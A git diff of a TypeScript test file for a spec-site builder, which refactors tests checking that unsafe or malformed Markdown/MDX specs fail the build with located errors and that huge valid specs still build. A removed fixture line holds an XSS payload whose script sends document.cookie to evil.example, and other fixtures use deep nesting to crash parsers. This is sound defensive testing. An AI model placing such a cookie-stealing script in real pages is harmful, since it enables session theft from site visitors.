@@ -9,82 +9,38 @@
 import { spawnSync } from 'node:child_process';
 import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join, relative } from 'node:path';
+import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { buildSpecsDir, ROOT, type BuiltSite } from '../helpers/build-fixture.ts';
+import { ROOT } from '../helpers/build-fixture.ts';
+import { builtFixture, fixture } from '../helpers/fixtures.ts';
+import { fiveMegabytes, unsafeSpecs } from '../helpers/generated-specs.ts';
 import { element } from '../helpers/html.ts';
-import { MAX_AUTHORS, MAX_MDX_DEPTH, MAX_MDX_EXPRESSION_DEPTH, MAX_TAGS } from '../../src/core/limits.ts';
-import { buildSpec, columnOf, lineOf } from '../helpers/spec-builder.ts';
-
-/** A valid Draft with `tags` tags and `authors` authors. */
-const withLists = (feature: string, tags: number, authors: number) =>
-	buildSpec({
-		feature,
-		status: 'Draft',
-		lastUpdated: '2026-11-20',
-		frontmatter: `tags: [${Array.from({ length: tags }, (_, index) => `tag-${index}`).join(', ')}]`,
-		authors: Array.from({ length: authors }, (_, index) => `Engineer ${index}`).join(', '),
-	});
-
-const valid = (feature: string, extra?: string) =>
-	buildSpec({ feature, status: 'Draft', lastUpdated: '2026-11-20', ...(extra ? { extraSections: [{ title: 'Appendix', body: extra }] } : {}) });
-
-function writeFolder(files: Record<string, string | Uint8Array>): string {
-	const dir = mkdtempSync(join(tmpdir(), 'specbook-hostile-build-'));
-	for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), content);
-	return dir;
-}
+import { columnOf, lineOf } from '../helpers/spec-builder.ts';
+import { MAX_AUTHORS, MAX_MDX_EXPRESSION_DEPTH, MAX_TAGS } from '../../src/core/limits.ts';
 
 const folders: string[] = [];
-const sites: BuiltSite[] = [];
 afterAll(() => {
-	for (const site of sites) site.cleanup();
 	for (const dir of folders) rmSync(dir, { recursive: true, force: true });
 });
 
 describe('unsafe or unreadable specs stop the build', () => {
-	const xss = valid('Retry dashboard').replace('- **Context**:', '- **Context**: See <script>fetch("https://evil.example/?c=" + document.cookie)</script> and');
-	const deep = valid('Runaway nesting', `${'> '.repeat(20_000)}x`);
-	// Compiled to JavaScript this deep, an .mdx spec crashed the bundler (a segmentation fault).
-	const deepMdx = valid('Deep MDX', `${'- '.repeat(300)}x`);
-	// 1,400 brackets in an expression crashed the bundler; 20,000 crashed the parser of `check` too.
-	// Starlight refused the icon while rendering: the build logged it unlocated, exited 0 and published an empty page.
-	const badAside = valid('Bad aside', ':::note{icon="nope"}\nBody.\n:::');
-	const deepExpression = valid('Deep expression', `Intro.\n\n{${'['.repeat(1_400)}${']'.repeat(1_400)}}`);
-	let site: BuiltSite;
-	let dir: string;
-
-	beforeAll(async () => {
-		dir = writeFolder({
-			'good.md': valid('Good spec'),
-			'xss.md': xss,
-			'Upper.MD': valid('Upper case'),
-			'binary.md': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00]),
-			'deep.md': deep,
-			'deep-mdx.mdx': deepMdx,
-			'deep-expression.mdx': deepExpression,
-			'many-tags.md': withLists('Many tags', 5_000, 1),
-			'bad-aside.md': badAside,
-		});
-		folders.push(dir);
-		site = await buildSpecsDir(dir);
-		sites.push(site);
-	}, 180_000);
-
-	const path = (name: string) => `${relative(ROOT, dir)}/${name}`;
+	// The same sources the globalSetup wrote (test/helpers/generated-specs.ts).
+	const { 'xss.md': xss, 'deep.md': deep, 'deep-mdx.mdx': deepMdx, 'deep-expression.mdx': deepExpression, 'bad-aside.md': badAside } = unsafeSpecs() as Record<string, string>;
+	const site = fixture('unsafe');
+	const path = (name: string) => `${site.specsDir}/${name}`;
 
 	test('with every error located, as check prints it', () => {
 		expect(site.exitCode).not.toBe(0);
-		const scriptLine = lineOf(xss, '<script>');
-		expect(site.output).toContain(`${path('xss.md')}:${scriptLine}:${columnOf(xss, scriptLine, '<script>')}: error html-unsafe Unsafe HTML: <script> can run script`);
+		const scriptLine = lineOf(xss!, '<script>');
+		expect(site.output).toContain(`${path('xss.md')}:${scriptLine}:${columnOf(xss!, scriptLine, '<script>')}: error html-unsafe Unsafe HTML: <script> can run script`);
 		expect(site.output).toContain(`${path('Upper.MD')}:1:1: error file-extension `);
 		expect(site.output).toContain(`${path('binary.md')}:3:1: error file-encoding `);
-		expect(site.output).toContain(`${path('deep.md')}:${lineOf(deep, '> > >')}:1: error markdown-too-complex `);
-		expect(site.output).toContain(`${path('deep-mdx.mdx')}:${lineOf(deepMdx, '- - -')}:601: error markdown-too-complex `);
-		expect(site.output).toContain(`${path('deep-expression.mdx')}:${lineOf(deepExpression, '{[[[')}:${MAX_MDX_EXPRESSION_DEPTH + 1}: error markdown-too-complex `);
+		expect(site.output).toContain(`${path('deep.md')}:${lineOf(deep!, '> > >')}:1: error markdown-too-complex `);
+		expect(site.output).toContain(`${path('deep-mdx.mdx')}:${lineOf(deepMdx!, '- - -')}:601: error markdown-too-complex `);
+		expect(site.output).toContain(`${path('deep-expression.mdx')}:${lineOf(deepExpression!, '{[[[')}:${MAX_MDX_EXPRESSION_DEPTH + 1}: error markdown-too-complex `);
 		expect(site.output).toContain(`${path('many-tags.md')}:2:1: error tags-too-many `);
-		expect(site.output).toContain(`${path('bad-aside.md')}:${lineOf(badAside, ':::note')}:1: error directive-invalid \`:::note\` has icon="nope"`);
+		expect(site.output).toContain(`${path('bad-aside.md')}:${lineOf(badAside!, ':::note')}:1: error directive-invalid \`:::note\` has icon="nope"`);
 		expect(site.output).not.toContain(`${path('good.md')}:`);
 		// Located lines, not a stack trace.
 		expect(site.output).not.toMatch(/\n\s+at .+\(.+:\d+:\d+\)/);
@@ -95,33 +51,8 @@ describe('unsafe or unreadable specs stop the build', () => {
 	});
 });
 
-const paragraph = (index: number) =>
-	`Paragraph ${index}: the **ledger** keeps _every_ posting, see [the runbook](https://example.com/runbook/${index}) and \`ledger-svc\`.\n\n- Item ${index}\n  - Nested under ${index}\n\n| a | b |\n| - | - |\n| ${index} | x |\n`;
-/** A valid Draft of a little over 5 MB of ordinary Markdown. */
-const fiveMegabytes = () => valid('Five megabytes', Array.from({ length: 26_000 }, (_, index) => paragraph(index)).join('\n'));
-
 describe('huge but harmless specs build', () => {
-	const headings = Array.from({ length: 10_000 }, (_, index) => `### Note ${index}\n\nText ${index}.`).join('\n\n');
-	let site: BuiltSite;
-
-	beforeAll(async () => {
-		const big = fiveMegabytes();
-		expect(Buffer.byteLength(big)).toBeGreaterThan(5_000_000);
-		const dir = writeFolder({
-			'nested.md': valid('Nested 5000', `${'- '.repeat(5_000)}innermost`),
-			'headings.md': valid('Ten thousand headings', headings),
-			'long-line.md': valid('Long line', `${'lorem ipsum '.repeat(8_700)}end of line`),
-			'five-mb.md': big,
-			'full-lists.md': withLists('Full lists', MAX_TAGS, MAX_AUTHORS),
-			// JavaScript as deep as the limit allows, inside a list as deep as the .mdx limit allows.
-			'deepest-mdx.mdx': valid('Deepest MDX', `${'- '.repeat(MAX_MDX_DEPTH / 2 - 2)}{${'['.repeat(MAX_MDX_EXPRESSION_DEPTH - 1)}'innermost'${']'.repeat(MAX_MDX_EXPRESSION_DEPTH - 1)}}`),
-		});
-		folders.push(dir);
-		// This config raises the size limit to 6 MB (maxFileBytes).
-		site = await buildSpecsDir(dir, { config: 'test/fixtures/large/astro.config.mjs' });
-		sites.push(site);
-		if (site.exitCode !== 0) throw new Error(`The build failed:\n${site.output}`);
-	}, 240_000);
+	const site = builtFixture('huge');
 
 	test('the 5,000-level list is rendered to its innermost item', () => {
 		const body = element(site.read('/specs/nested/'), /<div class="spec-body/) ?? '';
@@ -129,6 +60,7 @@ describe('huge but harmless specs build', () => {
 	});
 
 	test('every one of 10,000 headings gets its anchor; the 100 KB line and the 5 MB spec are there', () => {
+		expect(Buffer.byteLength(fiveMegabytes())).toBeGreaterThan(5_000_000);
 		const page = site.read('/specs/headings/');
 		expect(page).toContain('id="note-0"');
 		expect(page).toContain('id="note-9999"');
